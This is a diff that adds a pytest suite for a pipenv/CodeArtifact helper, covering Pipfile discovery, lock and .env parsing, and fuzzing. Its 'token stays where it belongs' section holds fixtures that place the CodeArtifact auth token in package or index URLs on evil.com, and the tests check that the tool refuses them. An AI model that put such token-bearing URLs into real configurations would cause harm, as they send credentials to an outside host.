@@ -1,0 +1,464 @@
+"""The project as pipenv finds and reads it: Pipfile, lock and .env."""
+
+from __future__ import annotations
+
+import json
+import os
+from concurrent.futures import ThreadPoolExecutor
+from contextlib import suppress
+from pathlib import Path
+from tempfile import TemporaryDirectory
+from typing import TYPE_CHECKING
+
+import pytest
+import tomlkit
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from support import PIPENV, PYPI_SOURCE, run, write_pipfile
+
+from codeartifact_pipenv.errors import ConfigurationError
+from codeartifact_pipenv.project.pipfile import Project, load_project
+
+if TYPE_CHECKING:
+    from collections.abc import Mapping
+
+TOKEN = "CODEARTIFACT_AUTH_TOKEN"
+HOST = "my-dom-123456789012.d.codeartifact.eu-west-1.amazonaws.com"
+URL = f"https://aws:${{{TOKEN}}}@{HOST}/pypi/team/simple/"
+SOURCE = f'[[source]]\nurl = "{URL}"\nverify_ssl = true\nname = "codeartifact"\n'
+
+
+def unknown() -> str | None:
+    return None
+
+
+def load(directory: Path, environ: Mapping[str, str] | None = None) -> Project:
+    return load_project(environ or {}, str(directory), unknown)
+
+
+def refusal(directory: Path, environ: Mapping[str, str] | None = None) -> str:
+    with pytest.raises(ConfigurationError) as caught:
+        load(directory, environ)
+    assert caught.value.hint
+    return caught.value.sentence
+
+
+def nested(folder: Path, levels: int) -> Path:
+    below = folder.joinpath(*(f"d{number}" for number in range(levels)))
+    below.mkdir(parents=True, exist_ok=True)
+    return below
+
+
+# --- where the Pipfile is ----------------------------------------------------------------
+
+
+def test_no_pipfile(tmp_path: Path) -> None:
+    """Without a Pipfile there is nothing to read, and the folder is where one started."""
+    project = load(tmp_path)
+    assert (project.pipfile, project.lock) == (None, None)
+    assert project.directory == str(tmp_path)
+    assert project.sources() == []
+    assert project.assign_variables([]) == {}
+    assert project.scripts == {}
+
+
+def test_depth_as_pipenv_has_it(clean_env: dict[str, str], project: Path) -> None:
+    """The Pipfile is found exactly where the real pipenv finds it."""
+    write_pipfile(project, PYPI_SOURCE)
+    elsewhere = project.parent / "elsewhere"
+    elsewhere.mkdir()
+    write_pipfile(elsewhere, PYPI_SOURCE)
+    cases: list[tuple[int, dict[str, str]]] = [
+        *((levels, {}) for levels in (0, 1, 8, 9, 10, 11)),
+        *((levels, {"PIPENV_MAX_DEPTH": "1"}) for levels in (0, 1)),
+        *((levels, {"PIPENV_MAX_DEPTH": "2"}) for levels in (1, 2)),
+        *((levels, {"PIPENV_MAX_DEPTH": "5"}) for levels in (4, 5)),
+        *((levels, {"PIPENV_NO_INHERIT": "1"}) for levels in (0, 1)),
+        (1, {"PIPENV_NO_INHERIT": "true", "PIPENV_MAX_DEPTH": "5"}),
+        (1, {"PIPENV_PIPFILE": str(elsewhere / "Pipfile")}),
+        (1, {"PIPENV_PIPFILE": "../../elsewhere/Pipfile"}),
+    ]
+
+    def compare(case: tuple[int, dict[str, str]]) -> tuple[str | None, str | None]:
+        levels, variables = case
+        below = nested(project, levels)
+        shown = run(PIPENV, "--where", env=clean_env | variables, cwd=below)
+        theirs = shown.stdout.strip() or None
+        mine = load(below, variables)
+        return theirs, mine.directory if mine.pipfile else None
+
+    with ThreadPoolExecutor(max_workers=4) as pool:
+        pairs = list(pool.map(compare, cases))
+    found = {str(case): pair for case, pair in zip(cases, pairs, strict=True)}
+    assert {case: mine for case, (_, mine) in found.items()} == {
+        case: theirs for case, (theirs, _) in found.items()
+    }
+    # (The comparison would also hold if both found nothing at all.)
+    assert [theirs for theirs, _ in pairs].count(str(project)) == 8
+    assert [theirs for theirs, _ in pairs].count(str(elsewhere)) == 2
+
+
+@pytest.mark.parametrize("version", ["2023.12.1", "2023.11.15", "2024.0.0"])
+def test_old_versions_look_less_far(tmp_path: Path, version: str) -> None:
+    """A pipenv up to 2024.0.0 looks into three folders, so we do."""
+    path = write_pipfile(tmp_path, SOURCE)
+    found = load_project({}, str(nested(tmp_path, 2)), lambda: version)
+    assert found.pipfile == str(path)
+    assert load_project({}, str(nested(tmp_path, 3)), lambda: version).pipfile is None
+    # PIPENV_MAX_DEPTH is every version's.
+    far = load_project({"PIPENV_MAX_DEPTH": "5"}, str(nested(tmp_path, 4)), lambda: version)
+    assert far.pipfile == str(path)
+
+
+@pytest.mark.parametrize("version", ["2024.0.3", "2024.4.1", "2026.10.3", None])
+def test_newer_versions_look_further(tmp_path: Path, version: str | None) -> None:
+    """Later versions look into ten folders, and so does an unknown one."""
+    path = write_pipfile(tmp_path, SOURCE)
+    found = load_project({}, str(nested(tmp_path, 9)), lambda: version)
+    assert found.pipfile == str(path)
+    assert load_project({}, str(nested(tmp_path, 10)), lambda: version).pipfile is None
+
+
+def test_version_is_asked_only_when_needed(tmp_path: Path) -> None:
+    """Near Pipfiles, and depths that are set, need no version."""
+    asked = []
+
+    def version() -> str | None:
+        asked.append("version")
+        return "2026.10.3"
+
+    write_pipfile(tmp_path, SOURCE)
+    for levels, environ in (
+        (0, {}),
+        (2, {}),
+        (6, {"PIPENV_MAX_DEPTH": "9"}),
+        (6, {"PIPENV_NO_INHERIT": "1"}),
+        (6, {"PIPENV_PIPFILE": str(tmp_path / "Pipfile")}),
+    ):
+        load_project(environ, str(nested(tmp_path, levels)), version)
+    assert asked == []
+    load_project({}, str(nested(tmp_path, 3)), version)
+    assert asked == ["version"]
+
+
+def test_nearest_pipfile(tmp_path: Path) -> None:
+    """The Pipfile of the nearest folder is the one; a folder of that name is none."""
+    write_pipfile(tmp_path, SOURCE)
+    below = nested(tmp_path, 2)
+    (below / "Pipfile").mkdir()
+    near = write_pipfile(below.parent, PYPI_SOURCE)
+    assert load(below).pipfile == str(near)
+
+
+def test_missing_pipenv_pipfile(tmp_path: Path) -> None:
+    """A PIPENV_PIPFILE that does not exist is refused, not passed over."""
+    write_pipfile(tmp_path, SOURCE)
+    sentence = refusal(tmp_path, {"PIPENV_PIPFILE": "nowhere/Pipfile"})
+    assert sentence == "PIPENV_PIPFILE names nowhere/Pipfile, which does not exist."
+
+
+# --- reading it --------------------------------------------------------------------------
+
+
+def test_sources_of_pipfile_and_lock(tmp_path: Path) -> None:
+    """Sources stand in the Pipfile and in the lock; the same URL counts once."""
+    path = write_pipfile(tmp_path, PYPI_SOURCE, SOURCE)
+    locked = URL.replace("/team/", "/other/")
+    sources = [{"name": "a", "url": URL}, {"name": "b", "url": locked}]
+    (tmp_path / "Pipfile.lock").write_text(json.dumps({"_meta": {"sources": sources}}))
+    found = load(tmp_path).sources()
+    assert [(s.name, s.url, s.origin) for s in found] == [
+        ("pypi", "https://pypi.org/simple", str(path)),
+        ("codeartifact", URL, str(path)),
+        ("b", locked, f"{path}.lock"),
+    ]
+    assert [s.endpoint.repository for s in found if s.endpoint] == ["team", "other"]
+
+
+def test_lock_of_another_pipfile(tmp_path: Path) -> None:
+    """The lock belongs to the Pipfile's own name."""
+    write_pipfile(tmp_path, PYPI_SOURCE).rename(tmp_path / "Pipfile.ci")
+    (tmp_path / "Pipfile.ci.lock").write_text(json.dumps({"_meta": {"sources": [{"url": URL}]}}))
+    project = load(tmp_path, {"PIPENV_PIPFILE": "Pipfile.ci"})
+    assert project.lock == str(tmp_path / "Pipfile.ci.lock")
+    assert [source.endpoint is not None for source in project.sources()] == [False, True]
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"",
+        b"{",
+        b"null",
+        b"[]",
+        b'{"_meta": []}',
+        b'{"_meta": {"sources": {}}}',
+        b'{"_meta": {"sources": null}}',
+        b"\xff\xfe",
+        b"[" * 100_000,
+        b"<<<<<<< HEAD\n{}",
+    ],
+)
+def test_corrupt_lock(tmp_path: Path, content: bytes) -> None:
+    """A lock that cannot be read is pipenv's to complain of; the Pipfile's sources count."""
+    write_pipfile(tmp_path, SOURCE)
+    (tmp_path / "Pipfile.lock").write_bytes(content)
+    assert [source.url for source in load(tmp_path).sources()] == [URL]
+
+
+def test_odd_variable_in_a_lock(tmp_path: Path) -> None:
+    """A variable that no environment can have is left as it is written."""
+    write_pipfile(tmp_path, SOURCE)
+    (tmp_path / "Pipfile.lock").write_text('{"_meta": {"sources": [{"url": "${\\ud800}"}]}}')
+    project = load_project(os.environ, str(tmp_path), unknown)
+    assert [source.endpoint is not None for source in project.sources()] == [True, False]
+
+
+@pytest.mark.parametrize(
+    ("text", "where"),
+    [
+        (f"{PYPI_SOURCE}\n[packages\n", "line 6"),
+        ('[packages]\nsix = "*"\nsix = "*"\n', "line 3"),
+        ("[packages]\nsix = *\n", "line 2"),
+        ("<<<<<<< HEAD\n", "line 1"),
+    ],
+)
+def test_invalid_toml(tmp_path: Path, text: str, where: str) -> None:
+    """What is no TOML is refused with file and line."""
+    path = write_pipfile(tmp_path, text)
+    sentence = refusal(tmp_path)
+    assert sentence.startswith(f"{path} is not valid TOML")
+    assert where in sentence
+
+
+def test_not_utf8(tmp_path: Path) -> None:
+    """A Pipfile in another encoding is refused with file and line."""
+    path = tmp_path / "Pipfile"
+    path.write_bytes(b"[packages]\n# caf\xc3\xa9\n# caf\xe9\n")
+    assert refusal(tmp_path) == f"{path}, line 3: the Pipfile is not UTF-8."
+
+
+def test_nested_beyond_reason(tmp_path: Path) -> None:
+    """A Pipfile that is nested beyond reason is refused with a sentence."""
+    path = write_pipfile(tmp_path, f"x = {'[' * 20_000}{']' * 20_000}\n")
+    assert str(path) in refusal(tmp_path)
+
+
+@pytest.mark.skipif(
+    not hasattr(os, "geteuid") or os.geteuid() != 0, reason="only root can play another user"
+)
+def test_unreadable() -> None:
+    """A Pipfile that may not be read is refused with the reason."""
+    with TemporaryDirectory() as name:
+        folder = Path(name)
+        folder.chmod(0o755)
+        path = write_pipfile(folder, SOURCE)
+        path.chmod(0o600)
+        os.seteuid(65534)
+        try:
+            sentence = refusal(folder)
+        finally:
+            os.seteuid(0)
+    assert sentence == f"{path} cannot be read: Permission denied."
+
+
+def test_empty(tmp_path: Path) -> None:
+    """An empty Pipfile has no sources and no scripts."""
+    write_pipfile(tmp_path, "")
+    project = load(tmp_path)
+    assert (project.sources(), project.scripts) == ([], {})
+
+
+@pytest.mark.parametrize(
+    "text", ['[[source]]\nname = "x"\n', "[[source]]\nurl = 3\n", 'source = ["https://x"]\n']
+)
+def test_source_without_url(tmp_path: Path, text: str) -> None:
+    """A source without a url is refused, with its number and file."""
+    path = write_pipfile(tmp_path, text)
+    with pytest.raises(ConfigurationError) as caught:
+        load(tmp_path).sources()
+    assert caught.value.sentence == f"Source 1 in {path} has no url."
+
+
+def test_scripts(tmp_path: Path) -> None:
+    """The scripts are handed on as they are."""
+    write_pipfile(tmp_path, '[scripts]\na = "pip list"\nb = ["x", "y"]\n')
+    assert load(tmp_path).scripts == {"a": "pip list", "b": ["x", "y"]}
+    write_pipfile(tmp_path, "scripts = 3\n")
+    assert load(tmp_path).scripts == {}
+
+
+# --- .env --------------------------------------------------------------------------------
+
+
+def test_dotenv_of_the_project(tmp_path: Path) -> None:
+    """The .env beside the Pipfile overrides the environment, as pipenv loads it."""
+    write_pipfile(tmp_path, SOURCE.replace("team", "${REPO}"))
+    (tmp_path / ".env").write_text("REPO=own\nEMPTY=\nNOTHING\n")
+    project = load(nested(tmp_path, 2), {"REPO": "inherited", "NOTHING": "stays"})
+    assert project.dotenv is not None
+    assert project.dotenv.path == str(tmp_path / ".env")
+    assert project.environ == {"REPO": "own", "EMPTY": "", "NOTHING": "stays"}
+    (source,) = project.sources()
+    assert source.endpoint is not None
+    assert source.endpoint.repository == "own"
+
+
+def test_dotenv_without_pipfile(tmp_path: Path) -> None:
+    """Without a Pipfile the working directory's .env is loaded."""
+    (tmp_path / ".env").write_text("A=1\n")
+    assert load(tmp_path).environ == {"A": "1"}
+
+
+@pytest.mark.parametrize("word", ["1", "true", "yes", "anything"])
+def test_dotenv_not_loaded(tmp_path: Path, word: str) -> None:
+    """PIPENV_DONT_LOAD_ENV keeps it out."""
+    (tmp_path / ".env").write_text("A=1\n")
+    project = load(tmp_path, {"PIPENV_DONT_LOAD_ENV": word})
+    assert project.dotenv is None
+    assert "A" not in project.environ
+
+
+@pytest.mark.parametrize("word", ["0", "false", "No", "off", ""])
+def test_dotenv_loaded_all_the_same(tmp_path: Path, word: str) -> None:
+    """PIPENV_DONT_LOAD_ENV may also say no."""
+    (tmp_path / ".env").write_text("A=1\n")
+    assert load(tmp_path, {"PIPENV_DONT_LOAD_ENV": word}).environ["A"] == "1"
+
+
+def test_dotenv_elsewhere(tmp_path: Path) -> None:
+    """PIPENV_DOTENV_LOCATION names another file; where it is not there, none is loaded."""
+    (tmp_path / ".env").write_text("A=1\n")
+    other = tmp_path / "other.env"
+    environ = {"PIPENV_DOTENV_LOCATION": str(other)}
+    assert load(tmp_path, environ).dotenv is None
+    other.write_text("A=2\n")
+    assert load(tmp_path, environ).environ["A"] == "2"
+
+
+def test_dotenv_names_the_pipfile(tmp_path: Path) -> None:
+    """A .env may say where the Pipfile is."""
+    write_pipfile(tmp_path, PYPI_SOURCE)
+    below = nested(tmp_path, 1)
+    path = write_pipfile(below, SOURCE)
+    (tmp_path / ".env").write_text(f"PIPENV_PIPFILE={path}\n")
+    assert load(tmp_path).pipfile == str(path)
+
+
+def test_broken_dotenv(tmp_path: Path) -> None:
+    """A .env in another encoding is refused with its path and a way on."""
+    path = tmp_path / ".env"
+    path.write_bytes(b"A=caf\xe9\n")
+    assert refusal(tmp_path).startswith(f"{path} cannot be read")
+
+
+# --- the token stays where it belongs ----------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        f'orb = {{file = "https://${{{TOKEN}}}@evil.com/orb.whl"}}',
+        f'orb = {{file = "https://aws:${TOKEN}@evil.com/orb.whl"}}',
+        f'orb = {{git = "https://aws:${{{TOKEN}}}@github.com/x/orb.git", ref = "main"}}',
+        f'orb = {{path = "./${{{TOKEN}}}"}}',
+        f'orb = "${{{TOKEN}}}"',
+        f'orb = {{extras = ["${{{TOKEN}}}"], version = "*"}}',
+    ],
+)
+@pytest.mark.parametrize("category", ["packages", "dev-packages", "docs"])
+def test_stray_token_in_a_package(tmp_path: Path, line: str, category: str) -> None:
+    """The token's variable in a package's own URL is refused, with the place named."""
+    path = write_pipfile(tmp_path, SOURCE, f"[{category}]\n{line}\n")
+    project = load(tmp_path)
+    with pytest.raises(ConfigurationError, match=f"would send the token in {TOKEN}") as caught:
+        project.assign_variables(project.sources())
+    assert str(path) in caught.value.sentence
+    assert f"{category}.orb" in caught.value.sentence
+
+
+def test_token_in_a_package_of_the_repository(tmp_path: Path) -> None:
+    """A package's URL of the same domain may have the variable for its password."""
+    url = URL.replace("simple/", "simple/orb/1.0/orb-1.0-py3-none-any.whl")
+    write_pipfile(tmp_path, SOURCE, f'[packages]\norb = {{file = "{url}"}}\n')
+    project = load(tmp_path)
+    assert set(project.assign_variables(project.sources())) == {TOKEN}
+
+
+def test_token_in_scripts(tmp_path: Path) -> None:
+    """What a script does with the variable is its own affair."""
+    write_pipfile(tmp_path, SOURCE, f'[scripts]\nx = "echo ${TOKEN}"\n')
+    project = load(tmp_path)
+    assert set(project.assign_variables(project.sources())) == {TOKEN}
+
+
+@pytest.mark.parametrize("value", [f"${{{TOKEN}}}", f"x${{{TOKEN}}}", f"${{{TOKEN}:-none}}"])
+def test_token_under_another_name(tmp_path: Path, value: str) -> None:
+    """A .env that copies the token to another name does not get it past the check."""
+    foreign = PYPI_SOURCE.replace("https://pypi.org", "https://aws:${LEAK}@evil.com")
+    write_pipfile(tmp_path, SOURCE, foreign)
+    (tmp_path / ".env").write_text(f"LEAK={value}\n")
+    project = load(tmp_path)
+    with pytest.raises(ConfigurationError, match="token"):
+        project.assign_variables(project.sources())
+
+
+def test_stray_token_in_dotenv(tmp_path: Path) -> None:
+    """A .env that puts the token into a foreign URL, for pip to use, is refused."""
+    write_pipfile(tmp_path, SOURCE)
+    (tmp_path / ".env").write_text(f"PIP_EXTRA_INDEX_URL=https://aws:${{{TOKEN}}}@evil.com/\n")
+    project = load(tmp_path)
+    with pytest.raises(ConfigurationError, match="token"):
+        project.assign_variables(project.sources())
+
+
+# --- for any document --------------------------------------------------------------------
+
+scalars = st.one_of(
+    st.text(),
+    st.integers(-(2**63), 2**63 - 1),
+    st.booleans(),
+    st.sampled_from(["https://x/", URL, f"${{{TOKEN}}}", "aws:${X}@", "${", "*"]),
+)
+names = st.one_of(
+    st.sampled_from(
+        ["source", "packages", "dev-packages", "scripts", "url", "name", "file", "requires"]
+    ),
+    st.text(min_size=1),
+)
+values = st.recursive(
+    scalars,
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(names, inner, max_size=4),
+    max_leaves=12,
+)
+documents = st.one_of(
+    st.dictionaries(names, values, max_size=5),
+    st.fixed_dictionaries(
+        {"source": st.lists(st.fixed_dictionaries({"url": scalars, "name": values}), max_size=3)},
+        optional={"packages": values, "dev-packages": values, "scripts": values, "x": values},
+    ),
+)
+
+
+def is_read_or_refused(content: bytes, lock: bytes) -> None:
+    with TemporaryDirectory() as name, suppress(ConfigurationError):
+        Path(name, "Pipfile").write_bytes(content)
+        Path(name, "Pipfile.lock").write_bytes(lock)
+        project = load(Path(name), {"X": "x"})
+        project.assign_variables(project.sources())
+        assert project.scripts is not None
+
+
+@settings(deadline=None)
+@given(documents, values)
+def test_any_document(document: dict[str, object], sources: object) -> None:
+    """Any TOML document, and any lock, is read or refused with a sentence."""
+    lock = json.dumps({"_meta": {"sources": sources}}).encode()
+    is_read_or_refused(tomlkit.dumps(document).encode(), lock)
+
+
+@settings(deadline=None)
+@given(st.one_of(st.binary(), st.text().map(str.encode)), st.binary())
+def test_any_bytes(content: bytes, lock: bytes) -> None:
+    """Any bytes are read or refused with a sentence."""
+    is_read_or_refused(content, lock)
